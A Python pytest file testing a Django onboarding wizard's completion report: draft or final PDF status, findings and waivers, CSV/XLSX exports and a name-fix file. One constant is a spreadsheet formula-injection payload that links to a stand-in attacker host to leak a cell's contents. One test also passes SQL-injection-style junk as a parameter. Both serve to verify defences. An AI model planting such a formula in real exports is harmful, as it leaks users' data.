"""The completion report: a PDF that says exactly what is true (DRAFT until all 15 steps are
signed), findings as CSV/XLSX with formula injection defused, and the name-fix file."""

import csv
import datetime
import io
import uuid
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from audits.models import Pull, PullStatus, RunStatus
from tests.wizard.signoff.factories import attest, finding, progress_of, run, upload
from wizard.checklist import STEPS
from wizard.models import AuditEvent, SignOff
from wizard.report import services as report
from wizard.signoff import services as signoff

REASON = "The partners keep this trust's legal name until June."
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def sign(progress, actor):
    return signoff.sign_off(progress=progress, actor=actor, submission_token=uuid.uuid4())[0]


@pytest.fixture
def under_way(practice, manager, lead):
    """Steps 1 and 2 confirmed and signed (1 countersigned), step 3 checked with a waived error
    and open findings, step 13's check failed, the rest untouched."""
    for key in ("api-access", "sync-direction"):
        sign(attest(practice, key, manager, checked_by="Ann Lee, IT"), manager)
    signoff.countersign(sign_off=progress_of(practice, "api-access").sign_offs.get(), actor=lead)
    upload(practice, "xpm_clients", "XPM clients March.csv", b"Client\nLee, Ann\n")
    checked = run(
        practice,
        "client-names",
        [
            finding("C03.E001", "Lee, Ann", suggestion="Ann Lee"),
            finding("C03.E002", "Bo  Stone", suggestion="Bo Stone"),
            finding("C03.W003", "Mr Bob Stone", suggestion="Bob Stone"),
        ],
    )
    signoff.waive(finding=checked.findings.get(code="C03.E001"), actor=manager, reason=REASON)
    upload(practice, "xero_contacts", "Contacts.csv")
    run(practice, "name-parity", status_=RunStatus.FAILED)
    return checked


def test_it_reports_what_was_signed_found_and_waived(practice, client_for, manager, under_way):
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "pdf"]))
    assert response["Content-Type"] == "application/pdf"
    onboarding = practice.current_onboarding()  # "Onboarding <year>", started today
    assert response["Content-Disposition"] == (
        f'attachment; filename="liftoff-harbour---co-{onboarding.label.lower().replace(" ", "-")}'
        f'-{timezone.localtime(onboarding.started_at):%Y%m%d}-completion-report.pdf"'
    )
    text = pdf_text(response.content)
    assert "Harbour & Co" in text and "Summit Onboarding" in text
    assert "DRAFT — 2 of 15 steps signed" in text
    assert text.count("Manager (Practice manager), ") >= 2  # steps 1 and 2, with the time
    assert "Lead" in text and "Countersigned" in text
    assert "Checked by Ann Lee, IT" in text
    sha = upload_sha(practice, "xpm_clients")
    assert "XPM clients March.csv" in text and sha[:32] in text.replace("\n", "")
    assert f"#{under_way.pk}" in text
    assert "partners keep this trust" in text and "C03.E001" in text
    assert ("Still open (2)" in text and "Bo  Stone" in text) or "Bo Stone" in text
    head = AuditEvent.objects.filter(organisation=practice.organisation).order_by("-sequence")[0]
    assert head.hash[:16] in text and f"#{head.sequence}" in text
    assert "Page 1 of" in text


def upload_sha(practice, kind):
    return practice.uploads.get(kind=kind, superseded_at=None).stored_file.sha256


def test_it_says_where_each_file_came_from_uploaded_or_pulled(practice, manager, under_way):
    onboarding = practice.current_onboarding()
    pulled = upload(practice, "xero_contacts", "Xero contacts, pulled 1 Dec 2026 10:02.csv")
    pages = [{"page": n, "sha256": f"{n}" * 64, "rows": 100} for n in (1, 2)]
    Pull.objects.create(
        practice=practice,
        onboarding=onboarding,
        kind="xero_contacts",
        step_key="name-parity",
        status=PullStatus.SUCCEEDED,
        pages=pages,
        rows=200,
        upload=pulled,
        requested_by=manager,
        finished_at=datetime.datetime(2026, 12, 1, 10, 2, tzinfo=datetime.UTC),
    )
    step13 = report.gather(onboarding)["steps"][12]
    assert [(f["label"], f["pull"] is not None, f["pages"]) for f in step13.files] == [
        ("XPM clients", False, 0),
        ("Xero contacts", True, 2),
    ]
    html = " ".join(report.render_html(onboarding).split())
    assert (
        "Xero contacts: Xero contacts, pulled 1 Dec 2026 10:02.csv<br>Pulled from Xero by "
        "Liftoff, 1 Dec 2026 10:02 UTC: 2 raw pages stored as received"
    ) in html
    assert f"SHA-256 {pulled.stored_file.sha256}" in html
    uploaded = practice.uploads.get(kind="xpm_clients", superseded_at=None)
    assert (
        f"XPM clients: XPM clients March.csv<br>Uploaded {uploaded.uploaded_at:%-d %b %Y}" in html
    )


def test_it_never_claims_a_check_that_did_not_happen(practice, under_way):
    data = report.gather(practice.current_onboarding())
    by_key = {s.step.key: s for s in data["steps"]}
    assert by_key["name-parity"].checked is False and by_key["name-parity"].counts == {}
    assert by_key["team-linked"].run is None
    text = pdf_text(report.render_pdf(practice.current_onboarding()))
    assert "Not checked: check #" in text and "failed to run" in text
    assert text.count("not checked") >= 10  # the summary's unchecked data steps


def test_it_counts_open_findings_and_waivers(practice, under_way):
    data = report.gather(practice.current_onboarding())
    step3 = next(s for s in data["steps"] if s.step.key == "client-names")
    assert step3.counts == {"error": 2, "warning": 1}
    assert step3.open_counts == {"error": 1, "warning": 1}
    assert [f.code for f in step3.open_findings] == ["C03.E002", "C03.W003"]
    assert [(w.waiver.code, w.state) for w in step3.waivers] == [("C03.E001", "waived")]


def test_it_marks_a_waiver_whose_finding_is_gone(practice, under_way):
    run(practice, "client-names", [])  # fixed at the source
    step3 = report.gather(practice.current_onboarding())["steps"][2]
    assert [w.state for w in step3.waivers] == ["gone"]
    assert "No longer found by the latest check" in report.render_html(
        practice.current_onboarding()
    )


def test_it_truncates_long_lists_honestly(practice):
    upload(practice, "xpm_clients")
    run(practice, "client-names", [finding("C03.E001", f"Last{i}, First") for i in range(40)])
    text = pdf_text(report.render_pdf(practice.current_onboarding()))
    assert "STILL OPEN (40)" in text
    assert f"and {40 - report.OPEN_LIMIT} more, see the findings CSV" in text
    assert "Last14, First" in text and "Last15, First" not in text


def test_it_gathers_in_a_constant_number_of_queries(practice, manager):
    onboarding = practice.current_onboarding()
    attest(practice, "api-access", manager)
    upload(practice, "xpm_clients")
    run(practice, "client-names", [finding("C03.E001", "Lee, Ann")])
    with CaptureQueriesContext(connection) as small:
        report.gather(onboarding)
    for step in STEPS:
        if step.needs_attestation:
            attest(practice, step.key, manager)
        if step.all_exports:
            run(
                practice,
                step.key,
                [finding(f"C{step.number:02d}.E001", f"v{i}") for i in range(30)]
                + [finding(f"C{step.number:02d}.W002", f"w{i}") for i in range(30)],
            )
    for kind in ("xpm_clients", "xero_contacts", "xpm_jobs"):
        upload(practice, kind)
    with CaptureQueriesContext(connection) as full:
        report.gather(onboarding)
    assert len(full) == len(small)


def test_it_is_final_once_all_steps_are_signed(practice, manager):
    onboarding = practice.current_onboarding()
    for progress in onboarding.steps.all():
        SignOff.objects.create(
            progress=progress, signed_by=manager, signed_by_label="Ann Lee", role="practice_manager"
        )
    text = pdf_text(report.render_pdf(onboarding))
    assert "Complete — all 15 steps signed off" in text
    assert "DRAFT" not in text


def test_it_is_a_draft_with_a_stale_sign_off(practice, manager):
    onboarding = practice.current_onboarding()
    for progress in onboarding.steps.all():
        SignOff.objects.create(
            progress=progress, signed_by=manager, signed_by_label="Ann Lee", role="practice_manager"
        )
    signoff.mark_stale(
        onboarding=onboarding, kinds={"xpm_job_templates"}, actor=manager, reason="New templates"
    )
    text = pdf_text(report.render_pdf(onboarding))
    assert "DRAFT — 13 of 15 steps signed" in text
    assert "stale since" in text and "New templates by Manager" in text


def test_it_writes_an_inert_findings_csv(practice, manager, client_for):
    upload(practice, "xpm_clients")
    run(practice, "client-names", [finding("C03.E002", INJECTION, suggestion=INJECTION)])
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "csv"]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["value"] == "'" + INJECTION
    assert rows[0]["suggestion"] == "'" + INJECTION


def test_it_quotes_the_findings_csv_for_semicolon_locales(practice, manager, client_for):
    upload(practice, "xpm_clients")
    run(practice, "client-names", [finding("C03.E002", "Acme;=1+2")])
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "csv"]))
    lines = response.content.decode("utf-8-sig").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert '"Acme;\'=1+2"' in lines[1]


def test_it_writes_an_inert_findings_xlsx(practice, manager, client_for):
    upload(practice, "xpm_clients")
    run(practice, "client-names", [finding("C03.E002", INJECTION)])
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "xlsx"]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet  # no formula cell anywhere
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings


def test_it_lists_name_fixes_per_system(practice, manager, client_for):
    upload(practice, "xpm_clients")
    run(
        practice, "client-names", [finding("C03.E001", "Lee, Ann", rows=(4,), suggestion="Ann Lee")]
    )
    run(
        practice,
        "internal-names",
        [finding("C12.E001", "1478 Blue Bell Group", rows=(9,), suggestion="Blue Bell Group")],
    )
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "fixes.csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [
        ["system", "current name", "suggested name", "rules", "file", "rows"],
        ["XPM", "Lee, Ann", "Ann Lee", "C03.E001", "clients.csv", "4"],
        ["XPM", "1478 Blue Bell Group", "Blue Bell Group", "C12.E001", "clients.csv", "9"],
    ]


def test_it_names_the_system_to_change_and_lists_each_rename_once(practice, manager, client_for):
    upload(practice, "xpm_clients", name="Clients.csv")
    upload(practice, "xero_contacts", name="Contacts.csv")
    near = finding(
        "C13.E001",
        "Harper SHARMA",
        rows=(7,),
        suggestion="Harper Sharma",
        file="Clients.csv",
        related=[{"file": "Contacts.csv", "rows": [31], "value": "Harpr Sharma"}],
    )
    capitals = finding(
        "C03.W004", "Harper SHARMA", rows=(7,), suggestion="Harper Sharma", file="Clients.csv"
    )
    run(practice, "client-names", [capitals])
    run(practice, "name-parity", [near])
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "fixes.csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert rows == [
        ["XPM", "Harper SHARMA", "Harper Sharma", "C03.W004; C13.E001", "Clients.csv", "7"],
        ["Xero", "Harpr Sharma", "Harper Sharma", "C13.E001", "Contacts.csv", "31"],
    ]


def test_it_gives_each_finding_its_status_in_the_findings_csv(practice, manager, client_for):
    upload(practice, "xpm_clients")
    made = run(
        practice,
        "client-names",
        [finding("C03.E001", "Lee, Ann"), finding("C03.E002", "Bo  Stone")],
    )
    reason = "Kept as the partners' legal name until June."
    signoff.waive(finding=made.findings.get(code="C03.E001"), actor=manager, reason=reason)
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "csv"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["code"], r["status"], r["waiver reason"]) for r in rows] == [
        ("C03.E001", "waived", reason),
        ("C03.E002", "open", ""),
    ]
    assert rows[0]["waived by"].startswith("Manager")


def test_it_offers_the_downloads_on_the_overview(practice, staff, client_for):
    body = client_for(staff).get(reverse("wizard:overview", args=[practice.pk])).content.decode()
    for fmt in ("pdf", "csv", "xlsx", "fixes.csv"):
        assert reverse("wizard:report", args=[practice.pk, fmt]) in body


def test_it_hides_another_tenants_report(practice, outsider, client_for):
    response = client_for(outsider).get(reverse("wizard:report", args=[practice.pk, "pdf"]))
    assert response.status_code == 404


def test_it_refuses_an_unknown_format(practice, manager, client_for):
    response = client_for(manager).get(reverse("wizard:report", args=[practice.pk, "docx"]))
    assert response.status_code == 404


def test_an_earlier_onboarding_keeps_its_report(
    practice, other_practice, client_for, manager, lead, under_way
):
    from wizard.practices.services import start_onboarding

    earlier = practice.current_onboarding()
    start_onboarding(practice=practice, actor=lead, label="Re-check 2027")
    client = client_for(manager)
    url = reverse("wizard:report", args=[practice.pk, "pdf"])
    current = pdf_text(client.get(url).content)
    assert "DRAFT — 0 of 15 steps signed" in current and "Re-check 2027" in current
    response = client.get(url, {"onboarding": earlier.pk})
    assert "re-check" not in response["Content-Disposition"]
    before = pdf_text(response.content)
    assert "DRAFT — 2 of 15 steps signed" in before and earlier.label in before
    overview = client.get(reverse("wizard:overview", args=[practice.pk])).content.decode()
    assert f"{url}?onboarding={earlier.pk}" in overview
    # Only this practice's onboardings, and only numbers.
    elsewhere = other_practice.current_onboarding().pk
    assert client.get(url, {"onboarding": elsewhere}).status_code == 404
    for junk in ("1 OR 1=1", "²", "9" * 5000, "-1"):
        assert client.get(url, {"onboarding": junk}).status_code == 404


def test_two_onboardings_of_a_year_get_different_file_names(practice, lead):
    from wizard.practices.services import start_onboarding

    first = practice.current_onboarding()
    second = start_onboarding(practice=practice, actor=lead)
    second.started_at += datetime.timedelta(days=1)
    assert first.label == second.label
    assert report.file_name(first, "pdf") != report.file_name(second, "pdf")


def test_a_practice_name_beyond_ascii_survives_the_download(organisation, client_for, lead):
    from wizard.practices.services import create_practice

    practice = create_practice(organisation=organisation, name="Müller & Søn")
    response = client_for(lead).get(reverse("wizard:report", args=[practice.pk, "csv"]))
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''liftoff-m%C3%BCller---s%C3%B8n-")
    assert disposition.endswith("-findings.csv")
